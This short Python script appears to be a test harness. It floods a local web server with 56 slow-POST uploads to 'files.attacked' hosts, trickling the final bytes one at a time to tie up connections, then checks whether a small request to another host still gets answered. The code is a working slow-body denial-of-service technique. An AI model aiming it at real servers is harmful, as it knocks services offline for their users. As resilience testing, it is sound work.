# 56 bodies of 8 MB to seven accounts, of which the last bytes come one by one, and a small one that comes so from its beginning. Arguments: addresses to come from.
import socket, sys, threading
done, count, lock = threading.Event(), [0], threading.Lock()
def upload(name, address, length, most):
    one = socket.create_connection(("::1", 80), source_address=(address, 0)); one.settimeout(30)
    try:
        one.sendall(f"POST / HTTP/1.1\r\nHost: {name}.test\r\nContent-Length: {length}\r\n\r\n".encode())
        one.sendall(bytes(most))
    except OSError: pass
    one.settimeout(2)
    if most:
        with lock: count[0] += 1
        if count[0] == 56: print("sent", flush=True)
    while not done.is_set():
        try:
            if answer := one.recv(4096): return answer
            return b""
        except TimeoutError: one.sendall(b"x")
        except OSError: return b""
for number in range(3, 10):
    for address in sys.argv[1:] * 2:
        threading.Thread(target=upload, args=(f"files.attacked{number}", address, 8000000, 7999000), daemon=True).start()
print(upload("app.bob", "::1", 200000, 0).split(b"\r\n")[0].decode(), flush=True)
threading.Event().wait()
